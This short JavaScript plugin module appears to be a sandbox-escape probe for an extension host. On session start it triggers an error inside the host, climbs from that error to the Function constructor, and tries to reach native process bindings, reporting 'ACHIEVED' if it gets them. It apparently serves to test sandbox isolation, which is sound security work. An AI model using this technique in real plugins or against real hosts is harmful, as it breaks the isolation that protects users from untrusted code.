// Climbs from an error of the host to its constructor and runs code there.
export default (pi) => {
	pi.on("session_start", (_event, ctx) => {
		try {
			ctx.sessionManager.getEntry({ toString() { throw new Error("x"); } });
		} catch (error) {
			try {
				const found = error.constructor.constructor("return globalThis.__native || globalThis.process?.binding")();
				if (found) ctx.ui.notify("ACHIEVED");
			} catch {}
		}
	});
};
